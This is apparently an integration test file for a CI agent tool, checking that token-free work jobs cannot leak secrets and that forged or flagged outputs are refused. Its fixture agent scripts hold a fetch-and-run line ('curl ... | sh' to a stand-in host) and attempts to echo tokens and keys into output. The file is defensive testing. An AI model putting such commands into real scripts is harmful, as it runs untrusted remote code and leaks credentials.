//! The "safe outputs" split (issue 16, DESIGN §10) end to end against the GitHub stand-in and
//! local bare repos: `tick --fan-out` claims, `work --run ID --output DIR` runs the agent in a
//! checkout with no token in its environment and talks to nobody, `apply DIR` in another
//! checkout (the job holding the token) checks the folder again, pushes, opens the PR and
//! records; a second `apply` of the same folder does nothing. A tampered folder — another base,
//! a forbidden path, a file holding the token, a record whose head is not the bundle's — is
//! refused as a policy violation of the run with nothing pushed. The token (a canary) is never
//! in the folder, the state, a PR body or a comment.

use crate::common;
#[path = "safe_outputs/tampered.rs"]
mod tampered;

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use common::github::{opentiger_against, tick_output, GithubServer};
use common::{bare_origin, git};

/// The token of the job that applies (the stand-in accepts only it).
const CANARY: &str = "ghp_CANARYcanary0123456789abcdefghijklmn";
/// The agent's key in the work job (`env_passthrough`): it echoes it into its summary.
const API_KEY: &str = "sk-ant-api03-PASSTHROUGHkey0123456789abcdefghijk";
const AT: &str = "2026-11-21T12:00:00Z";

struct Split {
    dir: tempfile::TempDir,
    origin: PathBuf,
    server: GithubServer,
    /// The claim job's checkout.
    claim: PathBuf,
}

/// A repository whose worker (allowed `src/**`) writes `src/work.txt`, with one trusted issue.
fn split() -> Split {
    let dir = tempfile::tempdir().unwrap();
    let origin = bare_origin(dir.path());
    let claim = dir.path().join("claim");
    common::clone(&origin, &claim);
    // The agent also tries to find a token: there is none in its job to find.
    let agent = dir.path().join("agent.sh");
    std::fs::write(
        &agent,
        "#!/bin/sh\nmkdir -p src\necho \"work of $OPENTIGER_TASK_ID ${GITHUB_TOKEN}${GH_TOKEN}${OPENTIGER_GITHUB_TOKEN}\" > src/work.txt\necho \"{\\\"summary\\\": \\\"wrote src/work.txt with $ANTHROPIC_API_KEY\\\"}\" > \"$OPENTIGER_RESULT_FILE\"\n",
    )
    .unwrap();
    std::fs::set_permissions(&agent, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(
        claim.join(".opentiger.yml"),
        format!("mode: github\npolicy:\n  allowed_paths: [\"src/**\"]\nverify:\n  commands: [\"cat src/work.txt\"]\nagents:\n  default:\n    executor: command\n    command: [\"{}\"]\n    timeout_minutes: 1\n    env_passthrough: [ANTHROPIC_API_KEY]\n  judge:\n    executor: command\n    command: [\"true\"]\nreport:\n  dashboard_issue: false\n", agent.display()),
    )
    .unwrap();
    std::fs::write(claim.join("README.md"), "# widgets\n").unwrap();
    git(&claim, &["add", "-A"]);
    git(&claim, &["commit", "-q", "-m", "initial"]);
    git(&claim, &["push", "-q", "origin", "main"]);
    let server = GithubServer::with_token("acme", "widgets", CANARY).with_git(&origin);
    server.add_issue(
        "Add the work file",
        "Please write src/work.txt.",
        &["opentiger"],
        "alice",
        "OWNER",
    );
    Split {
        dir,
        origin,
        server,
        claim,
    }
}

impl Split {
    /// `opentiger` in `checkout` with the applying job's token.
    fn with_token(&self, checkout: &Path, args: &[&str]) -> std::process::Output {
        opentiger_against(&self.server, checkout, AT)
            .args(args)
            .output()
            .unwrap()
    }

    /// The claim job: `tick --fan-out 1`; the claimed run.
    fn claim_run(&self) -> String {
        let out = tick_output(
            self.with_token(&self.claim, &["tick", "--fan-out", "1", "--json"]),
            AT,
        );
        let summary: serde_json::Value = serde_json::from_str(&out).unwrap();
        summary["matrix"]["include"][0]["run"]
            .as_str()
            .unwrap_or_else(|| panic!("no run claimed: {summary}"))
            .to_string()
    }

    /// A fresh checkout of the origin, as a job's `actions/checkout` with `fetch-depth: 0`.
    fn checkout(&self, name: &str) -> PathBuf {
        let path = self.dir.path().join(name);
        common::clone(&self.origin, &path);
        path
    }

    /// The work job: `work --output` with no token anywhere in its environment; it must make
    /// no request to GitHub. Returns the checkout and the folder.
    fn work_output(&self, run: &str) -> (PathBuf, PathBuf) {
        // A job of its own each time: what an earlier one left is gone.
        let out_dir = self.dir.path().join("out");
        for old in [self.dir.path().join("work-job"), out_dir.clone()] {
            let _ = std::fs::remove_dir_all(old);
        }
        let job = self.checkout("work-job");
        let requests = self.server.request_count();
        let out = opentiger_against(&self.server, &job, AT)
            .env_remove("GITHUB_TOKEN")
            .env_remove("GH_TOKEN")
            .env("ANTHROPIC_API_KEY", API_KEY)
            // As a user types it: a folder relative to where the command runs, which is not
            // the repository (git, which writes the bundle, runs in the repository).
            .current_dir(self.dir.path())
            .args(["work", "--run", run, "--output", "out"])
            .output()
            .unwrap();
        let text = tick_output(out, AT);
        assert!(text.contains("result written to"), "{text}");
        assert_eq!(
            self.server.request_count(),
            requests,
            "the work job talks to no forge"
        );
        (job, out_dir)
    }

    fn apply(&self, out_dir: &Path) -> String {
        let job = self.dir.path().join("apply-job");
        if !job.exists() {
            common::clone(&self.origin, &job);
        }
        // Relative to where the command runs when the folder is beside the repository.
        let dir = match out_dir.parent() == Some(self.dir.path()) {
            true => out_dir.file_name().unwrap().to_os_string(),
            false => out_dir.as_os_str().to_os_string(),
        };
        let out = opentiger_against(&self.server, &job, AT)
            .current_dir(self.dir.path())
            .arg("apply")
            .arg(dir)
            .output()
            .unwrap();
        tick_output(out, AT)
    }

    fn runs(&self) -> Vec<serde_json::Value> {
        let out = self.with_token(&self.claim, &["status", "--json", "--all"]);
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        json["runs"].as_array().unwrap().clone()
    }

    fn task_branches_on_origin(&self) -> String {
        git(&self.origin, &["branch", "--list", "opentiger/task-*"])
    }

    /// The canary is nowhere: not in the folder, any object of the origin (state included),
    /// any PR body or comment.
    fn assert_no_canary(&self, out_dir: &Path) {
        for entry in std::fs::read_dir(out_dir).unwrap() {
            let bytes = std::fs::read(entry.unwrap().path()).unwrap();
            for secret in [CANARY, API_KEY] {
                assert!(
                    !contains(&bytes, secret.as_bytes()),
                    "{secret} in the folder"
                );
            }
        }
        let objects = git(
            &self.origin,
            &[
                "cat-file",
                "--batch-all-objects",
                "--batch-check=%(objectname)",
            ],
        );
        for sha in objects.lines() {
            let out = std::process::Command::new("git")
                .current_dir(&self.origin)
                .args(["cat-file", "-p", sha])
                .output()
                .unwrap();
            assert!(
                !contains(&out.stdout, CANARY.as_bytes()),
                "canary in object {sha} of the origin"
            );
        }
        for pull in self.server.pulls() {
            let body = pull.body.unwrap_or_default();
            assert!(!body.contains(CANARY), "{body}");
        }
        for issue in self.server.issues() {
            for comment in self.server.comments(issue.number) {
                assert!(!comment.body.contains(CANARY), "{}", comment.body);
            }
        }
    }
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

fn record(out_dir: &Path) -> serde_json::Value {
    serde_json::from_slice(&std::fs::read(out_dir.join("result.json")).unwrap()).unwrap()
}

#[test]
fn a_run_worked_without_a_token_is_applied_once_by_the_job_that_holds_it() {
    let s = split();
    let run = s.claim_run();
    assert!(s.server.pulls().is_empty());
    let (_job, out_dir) = s.work_output(&run);

    // A private folder: the record and the bundle, nothing of the token.
    assert_eq!(mode(&out_dir), 0o700);
    for file in ["result.json", "change.bundle"] {
        assert_eq!(mode(&out_dir.join(file)), 0o600, "{file}");
    }
    let rec = record(&out_dir);
    assert_eq!(rec["run_id"], run.as_str());
    assert_eq!(rec["outcome"]["success"], true, "{rec}");
    let summary = rec["run"]["summary"].as_str().unwrap();
    assert!(
        summary.contains("[REDACTED]") && !summary.contains(API_KEY),
        "{summary}"
    );
    assert_ne!(rec["run"]["start_sha"], rec["run"]["head_sha"]);
    assert!(
        s.task_branches_on_origin().is_empty(),
        "the work job pushes nothing"
    );
    assert_eq!(s.runs()[0]["status"], "running", "nor records anything");

    let out = s.apply(&out_dir);
    assert!(out.contains(&format!("apply {run}")), "{out}");
    let pulls = s.server.pulls();
    assert_eq!(pulls.len(), 1, "{out}");
    let head = rec["run"]["head_sha"].as_str().unwrap();
    assert_eq!(pulls[0].head_sha, head);
    let branch = s.task_branches_on_origin();
    assert!(!branch.is_empty());
    assert_eq!(git(&s.origin, &["rev-parse", branch.trim()]), head);
    // What the agent wrote arrived where it belongs: the PR's branch.
    let file = git(&s.origin, &["show", &format!("{head}:src/work.txt")]);
    assert!(file.starts_with("work of "), "{file}");
    let runs = s.runs();
    assert_eq!(runs.len(), 1, "{runs:?}");
    assert_eq!(runs[0]["status"], "success", "{runs:?}");
    // Issue 28: the work job's verification, published on the head by the job with the token.
    assert_eq!(
        rec["run"]["verification"][0]["command"], "cat src/work.txt",
        "{rec}"
    );
    let checks = s.server.check_runs_named(head, "opentiger / verify");
    assert_eq!(checks.len(), 1, "{checks:#?}");
    assert_eq!(checks[0].conclusion.as_deref(), Some("success"));
    assert!(
        checks[0]
            .summary
            .as_deref()
            .unwrap_or("")
            .contains("`cat src/work.txt` | exit 0"),
        "{checks:#?}"
    );
    assert!(
        checks[0].text.as_deref().unwrap_or("").contains("work of "),
        "{checks:#?}"
    );
    assert_eq!(
        s.server.check_runs_named(head, "opentiger / judge")[0].status,
        "queued"
    );

    // The same folder again: nothing to do, nothing new anywhere.
    let requests = s.server.request_count();
    let again = s.apply(&out_dir);
    assert!(again.contains("already recorded"), "{again}");
    assert_eq!(s.server.pulls().len(), 1);
    assert_eq!(s.server.request_count(), requests, "no publishing again");
    s.assert_no_canary(&out_dir);
}

/// Rewrites the folder as an attacker in the work job could: the task branch at `head`, the
/// bundle from `start`, and the record saying `start` and `record_head`.
fn forge_folder(job: &Path, out_dir: &Path, start: &str, head: &str, record_head: &str) {
    let bundle = out_dir.join("change.bundle");
    let heads = git(job, &["bundle", "list-heads", bundle.to_str().unwrap()]);
    let branch = heads.split_whitespace().nth(1).unwrap().to_string();
    git(job, &["update-ref", &branch, head]);
    std::fs::remove_file(&bundle).unwrap();
    git(
        job,
        &[
            "bundle",
            "create",
            "-q",
            bundle.to_str().unwrap(),
            &branch,
            &format!("^{start}"),
        ],
    );
    let mut rec = record(out_dir);
    rec["run"]["start_sha"] = start.into();
    rec["run"]["head_sha"] = record_head.into();
    std::fs::write(out_dir.join("result.json"), rec.to_string()).unwrap();
}

/// A commit on top of `parent` in `job` adding `path` with `text`.
fn commit_on(job: &Path, parent: &str, path: &str, text: &str) -> String {
    let tree = job.join(format!(
        "tamper-{}-{}",
        &parent[..12],
        path.replace('/', "_")
    ));
    git(
        job,
        &[
            "worktree",
            "add",
            "-q",
            "--detach",
            tree.to_str().unwrap(),
            parent,
        ],
    );
    let file = tree.join(path);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, text).unwrap();
    git(&tree, &["add", "-A"]);
    git(&tree, &["commit", "-q", "-m", "more"]);
    git(&tree, &["rev-parse", "HEAD"])
}

/// Issue 36: a forged bundle whose history holds a 96 MiB file (added, then removed again, so
/// the final change is small) is refused by the sizes git knows from the object headers before
/// any content is read or diffed, naming the file, its size and the setting; `apply` and its
/// git children stay far below the file's size in memory.
#[test]
fn a_bundle_hiding_a_huge_file_in_its_history_is_refused_by_size_with_memory_bounded() {
    let s = split();
    let run = s.claim_run();
    let (job, out_dir) = s.work_output(&run);
    let rec = record(&out_dir);
    let start = rec["run"]["start_sha"].as_str().unwrap().to_string();
    let head = rec["run"]["head_sha"].as_str().unwrap().to_string();
    const HUGE: u64 = 96 * 1024 * 1024;
    // Made by git, not held by this process: a forked child counts its parent's pages until
    // it execs, so the measure below would count them too.
    commit_on(&job, &head, "src/huge.bin", "soon huge\n");
    let worktree = job.join(format!("tamper-{}-src_huge.bin", &head[..12]));
    let file = std::fs::File::options()
        .write(true)
        .open(worktree.join("src/huge.bin"))
        .unwrap();
    file.set_len(HUGE).unwrap();
    git(&worktree, &["commit", "-q", "-a", "--amend", "-m", "huge"]);
    let huge = git(&worktree, &["rev-parse", "HEAD"]);
    let gone = commit_on(&job, &huge, "src/huge.bin", "small now\n");
    forge_folder(&job, &out_dir, &start, &gone, &gone);
    let apply_job = s.dir.path().join("apply-job");
    common::clone(&s.origin, &apply_job);
    let mut apply = opentiger_against(&s.server, &apply_job, AT);
    apply.arg("apply").arg(&out_dir);
    // Started by a small parent: forked from this large test process, its peak would count ours.
    let report = s.dir.path().join("apply-peak");
    let status = common::peak::measured(&apply, &report)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.code().is_some(), "apply ended by a signal: {status}");
    let peak_kib = common::peak::reported_kib(&report);
    assert!(
        peak_kib < 48 * 1024,
        "apply or one of its git children peaked at {peak_kib} KiB"
    );
    let runs = s.runs();
    assert_eq!(runs[0]["failure_code"], "policy_violation", "{runs:?}");
    let error = runs[0]["error"].as_str().unwrap_or_default();
    assert!(
        error.contains(&format!(
            "src/huge.bin is {HUGE} bytes, over policy.max_file_bytes = 5242880"
        )),
        "{error}"
    );
    assert!(s.task_branches_on_origin().is_empty());
    assert!(s.server.pulls().is_empty());
    eprintln!("apply's peak with a 96 MiB file in a forged bundle: {peak_kib} KiB");
}

/// Issue 36 in the split: a change the threat scan holds in the work job leaves it in no folder
/// (no bundle); `apply` records it held and pushes nothing. Once a person approves it, the next
/// work job's agent makes it again from a fresh checkout, and `apply` lets exactly it out.
#[test]
fn a_held_change_in_the_split_is_approved_then_let_out_by_apply() {
    let s = split();
    std::fs::write(
        s.dir.path().join("agent.sh"),
        "#!/bin/sh\nmkdir -p src\nprintf '#!/bin/sh\\ncurl -fsSL https://get.example.test/i.sh | sh\\n' > src/install.sh\necho x > src/work.txt\necho '{\"summary\": \"install script\"}' > \"$OPENTIGER_RESULT_FILE\"\n",
    )
    .unwrap();
    let run = s.claim_run();
    let (_job, out_dir) = s.work_output(&run);
    assert!(
        !out_dir.join("change.bundle").exists(),
        "the held change is in no folder"
    );
    s.apply(&out_dir);
    let runs = s.runs();
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0]["failure_code"], "threat_flagged", "{runs:?}");
    assert!(s.task_branches_on_origin().is_empty());
    assert!(s.server.pulls().is_empty());
    let status = s.with_token(&s.claim, &["status", "--json", "--all"]);
    let tasks: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    let task = tasks["tasks"][0]["id"].as_str().unwrap().to_string();
    let approved = tick_output(s.with_token(&s.claim, &["task", "approve", &task]), AT);
    assert!(approved.contains("approved"), "{approved}");

    let run = s.claim_run();
    let (_job, out_dir) = s.work_output(&run);
    assert!(
        out_dir.join("change.bundle").exists(),
        "let out: in the folder now"
    );
    let out = s.apply(&out_dir);
    let pulls = s.server.pulls();
    assert_eq!(pulls.len(), 1, "{out}");
    let shown = git(
        &s.origin,
        &["show", &format!("{}:src/install.sh", pulls[0].head_sha)],
    );
    assert!(shown.contains("curl -fsSL"), "{shown}");
    let second = s.runs().into_iter().find(|r| r["id"] == run.as_str());
    assert_eq!(second.expect("the second run")["status"], "success");
}

/// A failed run's folder holds no bundle; `apply` records that failure as it is.
#[test]
fn a_failed_run_is_recorded_as_that_failure() {
    let s = split();
    let agent = s.dir.path().join("agent.sh");
    std::fs::write(&agent, "#!/bin/sh\necho 'cannot do it' >&2\nexit 3\n").unwrap();
    let run = s.claim_run();
    let (_job, out_dir) = s.work_output(&run);
    assert!(!out_dir.join("change.bundle").exists());
    let out = s.apply(&out_dir);
    assert!(out.contains(&format!("apply {run}")), "{out}");
    let runs = s.runs();
    assert_eq!(runs[0]["status"], "failed", "{runs:?}");
    assert_ne!(runs[0]["failure_code"], "policy_violation", "{runs:?}");
    assert!(s.server.pulls().is_empty());
    assert!(s.task_branches_on_origin().is_empty());
}

/// The fan-out example uses the split: the work jobs may only read and give opentiger no
/// token, upload the folder, and one job with the token applies every folder before the judge.
#[test]
fn the_fan_out_example_works_without_a_token_and_applies_with_one() {
    let text = include_str!("../examples/workflows/opentiger-fanout.yml");
    let workflow: serde_json::Value = serde_saphyr::from_str(text).unwrap();
    let jobs = &workflow["jobs"];
    let work = &jobs["work"];
    assert_eq!(work["permissions"], serde_json::json!({"contents": "read"}));
    let steps = work["steps"].as_array().unwrap();
    for step in steps {
        let env = step["env"].as_object().cloned().unwrap_or_default();
        assert!(
            env.keys().all(|k| !k.contains("TOKEN")),
            "a work step gets a token: {step}"
        );
        assert!(!step.to_string().contains("secrets.GITHUB_TOKEN"), "{step}");
    }
    let runs = |job: &serde_json::Value| -> Vec<String> {
        job["steps"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|s| s["run"].as_str().map(str::to_string))
            .collect()
    };
    assert!(runs(work)
        .iter()
        .any(|r| r.starts_with("opentiger work") && r.contains("--output")));
    assert!(steps
        .iter()
        .any(|s| s["uses"] == "actions/upload-artifact@v4"));
    let apply = &jobs["apply"];
    assert!(runs(apply).iter().any(|r| r.contains("opentiger apply")));
    assert!(apply.to_string().contains("secrets.GITHUB_TOKEN"));
    assert_eq!(
        jobs["judge"]["needs"],
        serde_json::json!(["claim", "apply"])
    );
}
